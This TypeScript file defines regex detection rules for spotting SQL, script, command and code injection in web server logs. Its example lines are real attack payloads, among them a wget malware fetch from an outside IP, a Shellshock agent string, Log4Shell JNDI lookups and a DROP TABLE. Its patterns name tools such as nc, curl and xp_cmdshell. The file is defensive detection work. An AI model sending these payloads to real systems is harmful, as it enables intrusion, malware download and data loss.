import type { AttackRule } from './rule.ts'

const everywhere = 'Path, query, referer and agent, escapes undone.'
const whatever = 'Whatever the answer.'

const sqlInjection: AttackRule = {
  id: 'sql-injection',
  kind: 'security alert',
  title: 'SQL injection',
  means: 'Somebody tries to make the database run a statement of theirs.',
  looksAt: everywhere,
  when: whatever,
  examples: [
    "GET /search?q=' OR '1'='1 200",
    'GET /?id=1+UNION/**/SELECT+1,2 200',
    'GET /?id=1;DROP%20TABLE%20users 200',
    'GET /?id=1%20and%20sleep(5) 200',
  ],
  ordinary: ['GET /search?q=select+the+union+or+not 200', "GET /search?q=rock+'n'+roll+or+pop 200"],
  patterns: [
    /\bunion[\s(]{1,8}(?:(?:all|distinct)\s?)?[\s(]{0,8}select\b/i,
    /['"`][\s)]*(?:\b(?:or|and|xor)\b|\|\||&&)[\s(]*(?:not\s+)?(?:\d{1,10}\s*(?:=|<>|!=|<|>|\blike\b)\s*['"(]?\d|(['"])[^'"=]{0,32}\1\s*(?:=|<>|!=|<|>|\blike\b)\s*(?:['"]|\(\s*['"]))/i,
    /['"`][\s)]*\bor\s+(?:true|not\s+false)\b\s*(?:--|#|;|$)/i,
    /\b(?:or|and)\s+\(?(\d{1,10})\s*=\s*\1\b/i,
    /'[\s)]*(?:;\s*)?--(?:[\s-]*(?:$|&))/,
    /;\s*(?:(?:drop|truncate|alter)\s+(?:table|database|view)|insert\s+into|delete\s+from|update\s+\w{1,64}\s+set|exec(?:ute)?[\s(]+(?:xp_|sp_|master)|shutdown\s*(?:--|;|$)|declare\s+@)\b/i,
    /\b(?:pg_)?sleep\(\s*\d{1,4}\s*\)|\bbenchmark\(\s*\d{4,10}\s*,|\bwaitfor\s+delay\b|\b(?:extractvalue|updatexml|load_file|xp_cmdshell|dbms_pipe\.receive_message|utl_inaddr\.get_host_address)\s?\(/i,
    /\binformation_schema\s?\.|\bselect\s+(?:\*|@@version|(?:count|concat|group_concat|char|version|user|database)\s?\()|@@version\b|\border\s+by\s+\d{1,4}\s?(?:--|#)/i,
  ],
}

const scriptInjection: AttackRule = {
  id: 'script-injection',
  kind: 'security alert',
  title: 'script injection',
  means: "Somebody tries to make the site show a script of theirs to others' browsers.",
  looksAt: everywhere,
  when: whatever,
  examples: ['GET /search?q=%3Cscript%3Ealert(1)%3C/script%3E 200', 'GET /?x=<img+src=x+onerror=alert(1)> 200'],
  ordinary: ['GET /search?q=javascript:+the+good+parts 200', 'GET /search?q=a%3Cb 200'],
  patterns: [
    /<\s?\/?\s?script\b/i,
    /<\s?(?:img|svg|iframe|body|object|embed|video|audio|details|input|a|div|marquee)\b[^<>]{0,200}\bon[a-z]{3,20}\s?=/i,
    /\bjavascript:\s?(?:alert|prompt|confirm|eval|fetch|document\.|window\.|location\b)/i,
  ],
}

const commandInjection: AttackRule = {
  id: 'command-injection',
  kind: 'security alert',
  title: 'command injection',
  means: 'Somebody tries to make the server run a command of theirs, such as a download of malware.',
  looksAt: everywhere,
  when: whatever,
  examples: [
    'GET /shell?cd+/tmp;wget+203.0.113.9/x 404',
    'GET /ping?ip=1|sh 200',
    'agent "() { :;}; /bin/bash -c id"',
    'GET /?x=$(whoami) 200',
  ],
  ordinary: ['GET /list;id=5?tags=dog|cat 200', 'agent "App/1.0 (Linux; curl/8.5.0)"'],
  patterns: [
    /(?:[;|`]|&&)\s?(?:wget|curl|tftp|ftpget|fetch|lwp-download)\s+(?:-{1,2}\w|\$\{?IFS|(?:https?|t?ftp):|[\w.-]{1,100}\/)/i,
    /[;|`]\s?(?:rm\s+-[rf]|chmod\s+(?:[+-]x|[0-7]{3,4})\b|cd\s+\/(?:tmp|var|dev|mnt|root|etc)\b|cat\s+\/|(?:nc|ncat|netcat)\s+(?:-\w|\d)|ping\s+-[cn]\s?\d|nslookup\s+\w|busybox\s+\w|powershell\s+-)/i,
    /[;|`]\s?(?:ba|da|a|z|k)?sh\s+(?:-\w|\/|[\w.-]{1,64}\.sh\b)|\|\s?(?:ba|da|a|z|k)?sh\s?(?:$|[;&'"`)])/i,
    /[;|`]\s?(?:whoami|uname(?:\s-a)?)\s?(?:$|[;&|'"`)])|(?:\$\(|`)\s?(?:id|whoami|uname|cat|curl|wget|sleep|ping|nslookup)\b/i,
    /(?:^|[=\s;|'"(])\/(?:usr\/)?bin\/(?:ba|da|a|z|k|c)?sh\b|\bcmd(?:\.exe[\s?]{0,4}|\s)\/c\b|\$\{?IFS\b/i,
    // the shell's own error, in whatever a server hands to it
    /(?<!\w\s?)\(\)\s{0,4}\{[^{}]{0,64};\s{0,4}\}\s{0,4}(?:;|>_\[)/,
  ],
}

const codeInjection: AttackRule = {
  id: 'code-injection',
  kind: 'security alert',
  title: 'code injection',
  means: 'Somebody tries to make the program behind the site load or run code of theirs.',
  looksAt: everywhere,
  when: whatever,
  examples: [
    `agent "\${jndi:ldap://203.0.113.9/a}"`,
    `GET /?x=\${\${lower:j}ndi:ldap://203.0.113.9/a} 200`,
    'GET /?file=php://filter/resource=index.php 200',
    'POST /?-d+allow_url_include%3d1 404',
  ],
  ordinary: [`GET /img/\${picture}.png 404`, 'GET /docs/php.html 200'],
  patterns: [
    /\$\{\s?(?:jndi\b|(?:lower|upper|env|sys|java|main|ctx|k8s)\s?:|:{1,2}-)|\$\{[^{}]{0,64}\$\{/i,
    /\bphp:\/\/|[=&?;'"](?:expect|phar|zip|gopher|dict|file):\/\/|=data:(?:\/\/|text\/plain)/i,
    /\b(?:auto_prepend_file|auto_append_file|allow_url_include|allow_url_fopen)\s?=/i,
    /<\?(?:php\b|=)|\b(?:eval|assert|system|passthru|shell_exec|call_user_func|base64_decode)\s?\(\s?(?:\$_|base64_decode|gzinflate|['"])|\$_(?:get|post|request|cookie|server)\s?\[/i,
    /\bthink\\app\b|\bcall_user_func_array\b|\bclass\.module\.classloader\b|\bjava\.lang\.(?:runtime|processbuilder)\b|[%$]\{\s?\(?#|\{\{\s?\d{1,5}\s?\*\s?\d{1,5}\s?\}\}/i,
  ],
}

export const injections: readonly AttackRule[] = [sqlInjection, scriptInjection, commandInjection, codeInjection]
